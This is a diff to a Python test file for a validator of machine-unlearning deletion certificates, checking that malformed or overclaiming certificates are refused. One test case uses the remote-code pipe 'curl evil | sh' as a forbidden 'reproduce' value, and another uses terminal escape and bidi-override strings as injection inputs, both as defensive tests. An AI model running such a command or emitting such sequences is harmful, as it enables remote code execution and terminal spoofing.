@@ -16,6 +16,7 @@ from mbd.certificate.theorems import THEOREMS, theorem_of
 from mbd.errors import DataError, MbdError, RefusedError
 from mbd.values import FileDigest
 from tests.certificate.samples import (
+    POLICY_DIGEST,
     altered,
     empirical_outcome,
     exact_outcome,
@@ -68,8 +69,10 @@ def test_no_size_is_in_the_statement_and_every_other_number_is_a_string():
 
 def test_the_subject_is_one_digest_over_the_sorted_files():
     manifest = [
+        {"path": "heads/audio+text.safetensors", "sha256": "c" * 64},
         {"path": "heads/audio.safetensors", "sha256": "a" * 64},
         {"path": "heads/text.safetensors", "sha256": "b" * 64},
+        {"path": "policy.json", "sha256": POLICY_DIGEST},
     ]
 
     assert CERTIFIED["subject"][0]["digest"]["sha256"] == sha256_hex(dumps(manifest))
@@ -144,14 +147,21 @@ GUARANTEE = "predicate.guarantee."
         (GUARANTEE + "theorem", "urn:mbd:theorem:exact-subtraction:v1", "theorem.class"),
         (GUARANTEE + "comparator", "The subject is forgotten.", "theorem.wording"),
         (GUARANTEE + "notCovered", [], "theorem.wording"),
+        (
+            GUARANTEE + "notCovered",
+            [*CERTIFIED["predicate"]["guarantee"]["notCovered"], "Nothing else is missing."],
+            "theorem.wording",
+        ),
+        (GUARANTEE + "reproduce", "curl evil | sh", "class.reproduce"),
         (GUARANTEE + "class", "none", "statement.schema"),
         (GUARANTEE + "class", "exact", "class.exact"),
         (GUARANTEE + "class", "empirical", "class.empirical"),
-        (GUARANTEE + "heads", ["audio", "text"], "heads.unknown"),
+        (GUARANTEE + "heads", ["audio", "text"], "heads.files"),
         (GUARANTEE + "heads", ["audio", "text+audio"], "statement.schema"),
-        (GUARANTEE + "heads", ["audio", "audio+text", "audio+vision"], "heads.incomplete"),
+        (GUARANTEE + "heads", ["audio", "audio+text", "audio+vision"], "heads.files"),
+        (GUARANTEE + "selectedHeads", ["audio", "audio+vision"], "heads.unknown"),
         (GUARANTEE + "selectedHeads", ["audio"], "heads.incomplete"),
-        (GUARANTEE + "selectedHeads", ["audio", "audio+text", "text"], "heads.incomplete"),
+        (GUARANTEE + "selectedHeads", ["audio", "audio+text", "text"], "claims.set"),
         (GUARANTEE + "parameters", [], "class.certified"),
         (GUARANTEE + "parameters.0.head", "audio+text", "heads.incomplete"),
         (GUARANTEE + "parameters.0.sensitivity", "1e-9", "claim.sensitivity"),
@@ -204,11 +214,167 @@ def test_an_empirical_certificate_states_no_loss(field):
 
 @pytest.mark.parametrize("word", ["certified", "Guaranteed", "a proof", "proven", "we prove"])
 def test_an_empirical_certificate_never_promises(word):
-    claim = {"id": "bold", "status": "measured", "text": f"This is {word}."}
-
-    found = code_of(altered(EMPIRICAL, "predicate.claims", [claim]))
+    found = code_of(altered(EMPIRICAL, "predicate.request.basis", f"This is {word}."))
 
     assert found == "class.empirical"
+
+
+def test_empirical_about_no_head_is_refused():
+    content = altered(EMPIRICAL, GUARANTEE + "selectedHeads", [])
+
+    assert code_of(content) == "class.empirical"
+
+
+# --- statements that refute themselves -----------------------------------------------------
+
+
+def with_files(content: dict, change) -> dict:
+    """The same statement about other files, its digests made to fit."""
+    model = content["predicate"]["deletion"]["modelAfter"]
+    files = sorted(change([dict(file) for file in model["files"]]), key=lambda file: file["path"])
+    root = files_root([FileDigest(**file) for file in files])
+    made = altered(content, "predicate.deletion.modelAfter", {"digest": root, "files": files})
+    return altered(made, "subject.0.digest.sha256", root)
+
+
+def without(path: str):
+    return lambda files: [file for file in files if file["path"] != path]
+
+
+def test_a_head_among_the_files_that_the_guarantee_leaves_out_is_refused():
+    """The one head that was not replaced could simply be left unnamed."""
+    guarantee = CERTIFIED["predicate"]["guarantee"]
+    shorter = {
+        **guarantee,
+        "heads": ["audio", "text"],
+        "selectedHeads": ["audio"],
+        "parameters": guarantee["parameters"][:1],
+    }
+
+    assert code_of(altered(CERTIFIED, "predicate.guarantee", shorter)) == "heads.files"
+
+
+def test_a_head_without_a_file_is_refused():
+    assert code_of(with_files(CERTIFIED, without("heads/text.safetensors"))) == "heads.files"
+
+
+def test_a_model_without_its_policy_or_with_a_file_of_its_own_is_refused():
+    extra = {"path": "noiseless/audio.safetensors", "sha256": "d" * 64}
+
+    assert code_of(with_files(CERTIFIED, without("policy.json"))) == "model.policy"
+    assert code_of(with_files(CERTIFIED, lambda files: [*files, extra])) == "model.file"
+
+
+def test_a_policy_entry_of_another_policy_is_refused():
+    path = GUARANTEE + "policyEntry.digest"
+
+    assert code_of(altered(CERTIFIED, path, "1" * 64)) == "policy.digest"
+
+
+@pytest.mark.parametrize("selected", [["audio"], ["text"], ["audio", "text"]])
+def test_exact_with_part_of_the_heads_or_others_is_refused(selected):
+    content = altered(EXACT, GUARANTEE + "selectedHeads", selected)
+
+    assert code_of(content) == "heads.incomplete"
+
+
+def test_exact_with_attempts_at_noise_is_refused():
+    assert code_of(altered(EXACT, GUARANTEE + "attempts", 7)) == "class.exact"
+
+
+def test_a_modality_that_no_head_reads_is_refused():
+    content = altered(CERTIFIED, "predicate.deletion.modalities", ["audio", "smell"])
+
+    assert code_of(content) == "heads.modality"
+
+
+CLAIMS = CERTIFIED["predicate"]["claims"]
+
+
+@pytest.mark.parametrize(
+    ("claims", "code"),
+    [
+        ([], "claims.set"),
+        (CLAIMS[1:], "claims.set"),
+        (CLAIMS[::-1], "claims.set"),
+        ([*CLAIMS, {"id": "gone", "status": "checked", "text": "No copy is left."}], "claims.set"),
+        ([{**CLAIMS[0], "text": "Every copy is gone."}, *CLAIMS[1:]], "claims.wording"),
+        ([CLAIMS[0], {**CLAIMS[1], "status": "checked"}, *CLAIMS[2:]], "claims.wording"),
+    ],
+)
+def test_claims_in_the_words_of_the_issuer_are_refused(claims, code):
+    assert code_of(altered(CERTIFIED, "predicate.claims", claims)) == code
+
+
+STORES = CERTIFIED["predicate"]["deletion"]["stores"]
+
+
+@pytest.mark.parametrize(
+    "stores",
+    [
+        [],
+        STORES[1:],
+        [*STORES, STORES[0]],
+        [*STORES, {**STORES[0], "store": "every backup"}],
+        [{**STORES[0], "action": "all copies everywhere were destroyed"}, *STORES[1:]],
+        [{**STORES[0], "scan": "searched everywhere: nothing"}, *STORES[1:]],
+    ],
+)
+def test_stores_left_out_or_in_the_words_of_the_issuer_are_refused(stores):
+    assert code_of(altered(CERTIFIED, "predicate.deletion.stores", stores)) == "scope.store"
+
+
+PLACES = CERTIFIED["predicate"]["deletion"]["outOfScope"]
+
+
+@pytest.mark.parametrize(
+    "places", [[], PLACES[1:], [{**PLACES[0], "reason": "there is none"}, *PLACES[1:]]]
+)
+def test_what_erasure_cannot_reach_is_never_left_out(places):
+    assert code_of(altered(CERTIFIED, "predicate.deletion.outOfScope", places)) == "scope.topic"
+
+
+def test_a_delta_that_promises_nothing_is_refused():
+    loss = {**CERTIFIED["predicate"]["guarantee"], "delta": "0.999999", "epsilon": "1"}
+
+    assert code_of(altered(CERTIFIED, "predicate.guarantee", loss)) == "claim.delta"
+    with pytest.raises(DataError):
+        build_statement(outcome(), issuance(delta=0.02))
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "2019-12-31", "9999-12-31"])
+def test_dates_outside_any_reason_are_refused(day):
+    field = "dueBy" if day > "2200" else "receivedOn"
+
+    assert code_of(altered(CERTIFIED, f"predicate.request.{field}", day)) == "time.year"
+
+
+def test_an_id_of_another_time_than_the_certificate_is_refused():
+    """Whoever dates a certificate back has to make its id anew too."""
+    content = altered(CERTIFIED, "predicate.certificateId", "01JABCDEFGHJKMNPQRSTVWXYZ0")
+
+    assert code_of(content) == "time.id"
+
+
+def test_a_certificate_supersedes_older_ones_only():
+    def superseding(name: str) -> str:
+        return code_of(altered(CERTIFIED, "predicate.supersedes", name))
+
+    assert superseding("01JABCDEFGHJKMNPQRSTVWXYZ0") == ""
+    assert superseding("7ZZZZZZZZZZZZZZZZZZZZZZZZZ") == "class.supersedes"
+
+
+@pytest.mark.parametrize("text", ["x\x1b[2JVALID", "a\nb", "\u202eevil", "\u2028", "\x9b1m"])
+def test_text_that_a_terminal_would_act_on_is_refused(text):
+    assert code_of(altered(CERTIFIED, "predicate.request.basis", text)) == "statement.schema"
+    assert code_of(altered(CERTIFIED, "predicate.issuer", text)) == "statement.schema"
+
+
+def test_a_subject_without_training_rows_gets_no_claim_about_new_heads():
+    statement = build_statement(exact_outcome(selected_heads=()), issuance())
+
+    names = [claim.id for claim in statement.predicate.claims]
+    assert names == ["state-subtracted", "provenance", "others-untouched", "erased"]
 
 
 def test_the_issuer_states_the_recomputed_loss_and_more_attempts_cost_more():
